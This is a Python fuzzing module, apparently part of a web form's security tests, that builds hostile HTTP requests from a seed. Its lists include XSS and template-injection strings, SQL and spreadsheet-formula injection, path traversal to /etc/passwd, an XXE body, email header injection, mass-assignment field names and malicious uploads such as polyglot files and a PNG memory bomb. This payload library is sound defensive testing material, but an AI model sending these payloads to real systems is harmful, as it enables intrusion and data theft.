"""Requests as attackers send them, made from a seed. No ORM; shared with the bench."""

import io
import random
import struct
import zipfile
import zlib

# What must stay text wherever it is shown.
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<t t-out='1337*7'/>",
    "{{ object.env.cr }}",
    "${7*7}",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<form action=//evil.test><button>Send",
    "<base href=//evil.test/>",
)
WORDS = (
    *SCRIPTS,
    "'; DROP TABLE customer_case; --",
    "%s %(x)s %%",
    '=HYPERLINK("http://evil.test","x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "＝1+1",
    "\u202egpj.exe",
    "a\u200b\u2066b\ufeff",
    "\ufffe\uffff",
    "\U000e0041\U000e0042",
    "Z" + "\u0300" * 500,
    "x" * 100_000,
    "\n" * 10_000,
    "泵" * 5000,
    "../../../etc/passwd",
    "victim@third.test\r\nBcc: other@third.test",
    "a@b.test,c@d.test",
    "<x@y.test>",
    "null",
    "[]",
    "1e400",
    "NaN",
)
# Fields a stranger must never set, by the names they would have.
EXTRA = (
    "id", "name", "state", "urgency", "priority", "user_id", "company_id", "profile_id",
    "partner_id", "department_id", "group_user_ids", "cause_id", "category_id", "source",
    "desk_id", "is_complex", "is_calmed", "is_escalated", "judgement", "solution",
    "result", "received_datetime", "acknowledged_datetime", "closed_datetime",
    "reopen_count", "csat", "csat_state", "access_token", "intake_key",
    "intake_digest", "form_reference", "create_uid", "create_date", "write_uid",
    "message_follower_ids", "message_ids", "activity_ids", "reward_state", "mediator",
    "merged_into_id", "interaction_id", "email_cc", "tier_id", "sla_deadline", "active",
    "lang", "context", "uid", "sudo", "model", "method", "args", "kwargs", "redirect",
)  # fmt: skip
HEADERS = (
    {"Accept-Language": "../../etc;q=9,zh" + ",x" * 500},
    {"Accept-Language": "\x7f;q=NaN"},
    {"User-Agent": "<script>alert(1)</script>"},
    {"Referer": "javascript:alert(1)"},
    {"Cookie": "frontend_lang=<script>; tz='\"; session_id=x"},
    {"X-Requested-With": "XMLHttpRequest"},
    {"Origin": "https://evil.test"},
    {"Content-Encoding": "gzip"},
    {"Range": "bytes=0-1,5-1"},
    {"If-None-Match": "W/" + '"' * 50},
)
BODIES = (
    ("application/json", b'{"jsonrpc": "2.0", "params": {"text": "x"}}'),
    ("application/json", b"{" * 1000),
    ("text/xml", b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"),
    ("multipart/form-data; boundary=x", b"--x\r\nbroken"),
    ("multipart/form-data", b"no boundary at all"),
    ("multipart/form-data; boundary=" + "y" * 300, b"--y\r\n\r\n"),
    ("application/x-www-form-urlencoded", b"%ED%A0%80=%00&%FF%FE=%zz&&&=;a[b][c]=1"),
    ("application/x-www-form-urlencoded; charset=utf-7", b"text=+ADw-script+AD4-"),
    ("", b"\x00\xff" * 500),
)
METHODS = ("PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE")


def make_request(rng, fields):
    """Return one hostile request: a dict of method, data, files, headers, body, query.

    :param fields: words of an honest one; hidden fields among them are kept or broken
    """
    values = dict(fields)
    request = {"method": "POST", "headers": {}, "files": [], "body": None, "query": ""}
    for mutate in rng.sample(MUTATIONS, rng.randint(1, 3)):
        mutate(rng, values, request)
    request["data"] = list(values.items()) + request.pop("more", [])
    return request


def _put_words(rng, values, _request):
    names = [name for name in values if name not in HIDDEN_FIELDS]
    for name in rng.sample(names, rng.randint(1, len(names))):
        values[name] = rng.choice(WORDS)


def _put_garbage(rng, values, _request):
    name = rng.choice([name for name in values if name not in HIDDEN_FIELDS])
    values[name] = "".join(
        chr(rng.choice((rng.randrange(0xD800), rng.randrange(0xE000, 0x110000))))
        for _i in range(rng.randint(1, 300))
    )


def _add_fields(rng, _values, request):
    names = rng.sample(EXTRA, rng.randint(1, len(EXTRA)))
    more = [(name, rng.choice(("1", "2", "confirmed", *WORDS))) for name in names]
    request.setdefault("more", []).extend(more)


def _repeat_fields(rng, values, request):
    more = [(name, rng.choice(WORDS)) for name in values for _time in range(3)]
    request.setdefault("more", []).extend(more)


def _break_hidden(rng, values, _request):
    name = rng.choice(HIDDEN_FIELDS)
    action = rng.randrange(4)
    if action == 0:
        values.pop(name, None)
    elif action == 1:
        values[name] = rng.choice(WORDS)
    elif action == 2:
        values[name] = values.get(name, "")[:-1]
    else:
        values[name] = values.get(name, "") + "A"


def _add_files(rng, _values, request):
    for _time in range(rng.choice((1, 1, 1, 2, 5, 6, 30))):
        request["files"].append(("files", make_file(rng)))


def _spoil_headers(rng, _values, request):
    request["headers"].update(rng.choice(HEADERS))


def _spoil_body(rng, _values, request):
    kind, request["body"] = rng.choice(BODIES)
    request["headers"]["Content-Type"] = kind


def _spoil_method(rng, _values, request):
    request["method"] = rng.choice(METHODS)


def _spoil_query(rng, _values, request):
    request["query"] = rng.choice(
        (
            "?lang=%00",
            "?lang=" + "z" * 2000,
            "?text=x&kind=y&debug=1",
            "?lang=zh_CN&lang=",
        )
    )


HIDDEN_FIELDS = ("stamp", "csrf_token", "homepage", "access_token")
MUTATIONS = (
    *[_put_words] * 6,
    *[_put_garbage] * 3,
    *[_add_fields] * 3,
    *[_add_files] * 3,
    _repeat_fields,
    _break_hidden,
    _spoil_headers,
    _spoil_query,
    _spoil_body,
    _spoil_method,
)


# --- files -----------------------------------------------------------------------


def make_file(rng):
    """Return name and content of a file that is not what it seems, or is too much."""
    if rng.random() < 0.3:
        return rng.choice(
            (
                ("../../huge.png", make_huge_png()),
                ("<b>.gif", b"GIF89a/*<script>alert(1)</script>*/"),
                ("=1+1.pdf", b"%PDF-1.7\n<script>alert(1)</script>"),
                ("a.docx", _make_zip("[Content_Types].xml", "word/document.xml")),
            )
        )
    name = rng.choice(
        (
            "a.png", "a.jpg", "a.pdf", "a.txt", "a.docx", "a.xlsx", "a.svg", "a.html",
            "a.exe", "../../a.png", "a.png\0.html", "\u202egnp.exe", "x" * 3000 + ".png",
            '"><img src=x onerror=alert(1)>.png', "=1+1.txt", "con.txt", ".png", "a",
        )
    )  # fmt: skip
    return name, rng.choice(
        (
            b"",
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            b"<!DOCTYPE html><script>alert(1)</script>",
            b"GIF89a/*<script>alert(1)</script>*/",
            b"%PDF-1.7\n<script>alert(1)</script>",
            b"MZ\x90\0",
            b"just text",
            b"\x00" * 1000,
            make_huge_png(),
            _make_zip("[Content_Types].xml", "word/document.xml"),
            _make_zip("[Content_Types].xml", "word/vbaProject.bin"),
            b"PK\x03\x04" + rng.randbytes(200),
            rng.randbytes(500),
        )
    )


def make_huge_png():
    """A picture of 65535 x 65535 dots in some bytes: opened, it fills the memory."""
    head = struct.pack(">IIBBBBB", 65535, 65535, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 100)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def _make_zip(*names):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, "0" * 100_000)
    return buffer.getvalue()


def make_rng(seed):
    return random.Random(seed)
